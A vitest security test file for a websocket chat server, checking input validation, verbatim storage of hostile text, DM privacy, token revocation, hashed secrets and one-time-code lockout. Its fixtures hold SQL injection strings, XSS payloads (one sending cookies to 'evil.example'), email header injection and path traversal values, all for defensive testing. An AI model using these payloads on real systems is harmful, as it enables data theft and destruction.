// Hostile input, cross-user access, token replay and code guessing, over real
// sockets against the real server. Hostile text is stored and returned verbatim
// (it is only ever rendered as text); hostile names are refused with bad_request.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dmRoomId } from '../../functions/core/names.js';
import { TestClient, newAccount, resumeAs, signUp } from '../helpers/client.js';
import { startTestServer, type TestServer } from '../helpers/server.js';

let t: TestServer;
beforeAll(async () => {
  // Verbatim storage is under test: no masking of the texts below.
  t = await startTestServer({ PROFANITY_FILTER: 'off', MESSAGE_BURST: '1000', AUTH_ATTEMPTS_PER_CONNECTION: '100' });
});
afterAll(() => t?.close());

const SQL_INJECTIONS = [
  "'; DROP TABLE messages; --",
  "' OR '1'='1",
  "1; DELETE FROM users WHERE '1'='1",
  "$$; select pg_sleep(10); $$",
  "\\'; truncate sessions; --",
  "') union select password_hash from users --",
];
const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  '"><svg/onload=fetch(`//evil.example/${document.cookie}`)>',
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '<!--',
  '&lt;b&gt; &amp; &#x3C;',
];
const UNICODE = [
  'evil\u202Egnp.exe', // right-to-left override
  '\u2066isolate\u2069 and \u200Bzero\u200Dwidth',
  '🦊🏳️‍🌈👩‍👩‍👧‍👦 𝕳𝖊𝖑𝖑𝖔 𠜎',
  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇',
  'line one\nline two\r\n\ttabbed',
  '\uFEFFbom and \uFFFD replacement',
];
const LONGEST = '🦊'.repeat(4000); // 4000 code points, 8000 UTF-16 units, 16000 bytes

describe('hostile names', () => {
  const refused = [
    ...SQL_INJECTIONS,
    ...MARKUP,
    'admin\u202E',
    'al\u0000ice',
    'ab',
    'x'.repeat(33),
    '🦊🦊🦊',
    'alice bob',
    '../../etc/passwd',
  ];

  it('refuses usernames outside the allowed characters with bad_request', async () => {
    const c = await TestClient.connect(t.wsUrl);
    for (const username of refused) {
      const reply = await c.request({ action: 'auth', op: 'register', username, email: 'x@example.com', password: 'long enough password' });
      expect(reply, username).toMatchObject({ type: 'error', code: 'bad_request' });
    }
    const [n] = await t.db.sql`select count(*)::int as n from users where email_lower = 'x@example.com'`;
    expect(n!.n).toBe(0);
    await c.close();
  });

  it('refuses hostile emails, including header injection, with bad_request', async () => {
    const c = await TestClient.connect(t.wsUrl);
    for (const email of [
      'victim@example.com\r\nBcc: everyone@example.com',
      'a@b.c\nSubject: hi',
      '<script>@example.com',
      "x'; drop table users;--@example.com",
      `${'a'.repeat(250)}@example.com`,
      'no-at-sign',
      'a@b@c.com',
    ]) {
      const reply = await c.request({ action: 'auth', op: 'register', username: 'mailtest', email, password: 'long enough password' });
      expect(reply, email).toMatchObject({ type: 'error', code: 'bad_request' });
    }
    expect(t.mail.sent.filter((m) => m.to.includes('\n') || m.to.includes('\r'))).toHaveLength(0);
    await c.close();
  });

  it('refuses hostile room names with bad_request', async () => {
    const alice = await signUp(t);
    for (const room of ["general'; --", '../general', 'GENERAL\u0000', `dm:${alice.username}:${alice.username}`, 'dm:a', 'x'.repeat(33), '<b>room</b>']) {
      expect((await alice.request({ action: 'join', room })).code, room).toBe('bad_request');
      expect((await alice.request({ action: 'send', room, text: 'hi', clientId: 'r' })).code, room).toBe('bad_request');
    }
    await alice.close();
  });
});

describe('hostile text', () => {
  it('stores and returns every hostile text verbatim: in the reply, live, and in history', async () => {
    const alice = await signUp(t);
    const bob = await signUp(t);
    const room = `hostile-${process.pid % 1000}`;
    await alice.request({ action: 'join', room });
    await bob.request({ action: 'join', room });
    const texts = [...SQL_INJECTIONS, ...MARKUP, ...UNICODE, LONGEST];
    for (const [i, text] of texts.entries()) {
      const sent = await alice.request({ action: 'send', room, text, clientId: SQL_INJECTIONS[i % SQL_INJECTIONS.length]! + i });
      expect(sent.type, text.slice(0, 40)).toBe('sent');
      // Trimming is the only change: leading and trailing white space goes.
      expect((sent.message as { text: string }).text).toBe(text.trim());
      const live = await bob.next((f) => f.type === 'message' && (f.message as { clientId: string }).clientId === SQL_INJECTIONS[i % SQL_INJECTIONS.length]! + i);
      expect((live.message as { text: string }).text).toBe(text.trim());
    }
    const page = await bob.request({ action: 'history', room, limit: 100 });
    expect((page.messages as Array<{ text: string }>).map((m) => m.text)).toEqual(texts.map((s) => s.trim()));
    // The schema is intact after all of it.
    const [tables] = await t.db.sql`select count(*)::int as n from information_schema.tables where table_name in ('users', 'messages', 'sessions', 'connections')`;
    expect(tables!.n).toBe(4);
    await Promise.all([alice.close(), bob.close()]);
  });

  it('refuses text that cannot be stored or is too long, and stores nothing', async () => {
    const alice = await signUp(t);
    for (const [text, code] of [
      ['nul \u0000 byte', 'bad_request'],
      ['bell \u0007', 'bad_request'],
      ['escape \u001b[31mred', 'bad_request'],
      ['lone \ud800 surrogate', 'bad_request'],
      ['   ', 'bad_request'],
      [LONGEST + '!', 'bad_request'],
    ] as const) {
      expect((await alice.request({ action: 'send', room: 'general', text, clientId: 'bad' })).code, text.slice(0, 20)).toBe(code);
    }
    // Over 32 KiB the frame is not even parsed, so the error cannot echo its id.
    alice.send({ action: 'send', room: 'general', text: 'x'.repeat(40_000), clientId: 'big', id: 'big' });
    expect((await alice.next('error')).code).toBe('too_large');
    const [n] = await t.db.sql`select count(*)::int as n from messages m join users u on u.id = m.sender_id where u.username = ${alice.username}`;
    expect(n!.n).toBe(0);
    await alice.close();
  });
});

describe('cross-user access', () => {
  it('keeps a DM to its two people: no reading, writing, joining or leaving by a third', async () => {
    const [alice, bob, mallory] = await Promise.all([signUp(t), signUp(t), signUp(t)]);
    const dm = dmRoomId(alice.username, bob.username);
    expect((await alice.request({ action: 'send', room: dm, text: 'just us', clientId: 'dm-1' })).type).toBe('sent');

    expect((await mallory.request({ action: 'history', room: dm })).code).toBe('forbidden');
    expect((await mallory.request({ action: 'send', room: dm, text: 'let me in', clientId: 'm-1' })).code).toBe('forbidden');
    expect((await mallory.request({ action: 'join', room: dm })).code).toBe('forbidden');
    expect((await mallory.request({ action: 'leave', room: dm })).code).toBe('bad_request');
    expect(mallory.all((f) => f.type === 'message' && (f.message as { room: string }).room === dm)).toHaveLength(0);
    // A field claiming another sender changes nothing: identity is the connection's.
    const spoof = await mallory.request({ action: 'send', room: 'general', text: 'I am alice', clientId: 'm-2', from: alice.username, user: alice.username });
    expect((spoof.message as { from: string }).from).toBe(mallory.username);
    await Promise.all([alice.close(), bob.close(), mallory.close()]);
  });

  it('refuses channel reads and writes to non-members, and every action before login', async () => {
    const [alice, mallory] = await Promise.all([signUp(t), signUp(t)]);
    const room = `private-${process.pid % 1000}`;
    await alice.request({ action: 'join', room });
    await alice.request({ action: 'send', room, text: 'members only', clientId: 'p-1' });
    expect((await mallory.request({ action: 'history', room })).code).toBe('forbidden');
    expect((await mallory.request({ action: 'send', room, text: 'hi', clientId: 'm' })).code).toBe('forbidden');
    expect((await mallory.request({ action: 'leave', room })).code).toBe('not_found');

    const anonymous = await TestClient.connect(t.wsUrl);
    for (const frame of [
      { action: 'join', room },
      { action: 'send', room, text: 'x', clientId: 'a' },
      { action: 'history', room },
      { action: 'leave', room },
      { action: 'auth', op: 'logout' },
    ]) {
      expect((await anonymous.request(frame)).code, frame.action).toBe('unauthorized');
    }
    await Promise.all([alice.close(), mallory.close(), anonymous.close()]);
  });
});

describe('sessions', () => {
  it('refuses a token after logout, everywhere, and leaves the other sessions alone', async () => {
    const alice = await signUp(t);
    const token = alice.token!;
    const sameSession = await resumeAs(t, token);
    const otherSession = await TestClient.connect(t.wsUrl);
    expect((await otherSession.request({ action: 'auth', op: 'login', username: alice.username, password: alice.password })).type).toBe('authed');

    expect((await alice.request({ action: 'auth', op: 'logout' })).type).toBe('logged_out');
    await sameSession.closed;
    for (let i = 0; i < 3; i++) {
      const replay = await TestClient.connect(t.wsUrl);
      expect((await replay.request({ action: 'auth', op: 'resume', token })).code).toBe('unauthorized');
      await replay.close();
    }
    expect((await alice.request({ action: 'send', room: 'general', text: 'still me?', clientId: 'x' })).code).toBe('unauthorized');
    expect((await otherSession.request({ action: 'history', room: 'general' })).type).toBe('history');
    await Promise.all([alice.close(), otherSession.close()]);
  });

  it('refuses an expired token, and keeps only hashes of tokens, codes and passwords', async () => {
    const alice = await signUp(t);
    await t.db.sql`update sessions set expires_at = now() - interval '1 second' where user_id = (select id from users where username = ${alice.username})`;
    const c = await TestClient.connect(t.wsUrl);
    expect((await c.request({ action: 'auth', op: 'resume', token: alice.token })).code).toBe('unauthorized');
    expect(alice.token).toMatch(/^[A-Za-z0-9_-]{43}$/); // 256 random bits

    const [row] = await t.db.sql<{ password_hash: string; tokens: string[]; codes: string[] }[]>`
      select u.password_hash,
        array(select token_hash from sessions where user_id = u.id) as tokens,
        array(select code_hash from otp_challenges where user_id = u.id) as codes
      from users u where u.username = ${alice.username}`;
    expect(row!.password_hash).toMatch(/^scrypt\$\d+\$8\$1\$/);
    expect(row!.password_hash).not.toContain(alice.password);
    expect(row!.tokens).not.toContain(alice.token);
    const code = await t.mail.codeFor(alice.email);
    for (const stored of row!.codes) expect(stored).not.toContain(code);
    await Promise.all([alice.close(), c.close()]);
  });
});

describe('code guessing', () => {
  it('burns a code after five wrong guesses, even in parallel from many sockets', async () => {
    const account = newAccount('guess');
    const c = await TestClient.connect(t.wsUrl);
    await c.request({ action: 'auth', op: 'register', ...account });
    const code = await t.mail.codeFor(account.email);
    const wrong = [...Array(20).keys()].map((i) => String((Number(code) + 1 + i) % 1_000_000).padStart(6, '0'));
    const guessers = await Promise.all(wrong.map(() => TestClient.connect(t.wsUrl)));
    const replies = await Promise.all(guessers.map((g, i) => g.request({ action: 'auth', op: 'verify', username: account.username, code: wrong[i] })));
    expect(replies.every((r) => r.code === 'invalid_code')).toBe(true);

    const right = await c.request({ action: 'auth', op: 'verify', username: account.username, code });
    expect(right).toMatchObject({ type: 'error', code: 'invalid_code' });
    const [row] = await t.db.sql`
      select max(attempts)::int as attempts from otp_challenges
      where user_id = (select id from users where username = ${account.username.toLowerCase()})`;
    expect(row!.attempts).toBe(5);
    await Promise.all([c.close(), ...guessers.map((g) => g.close())]);
  });
});
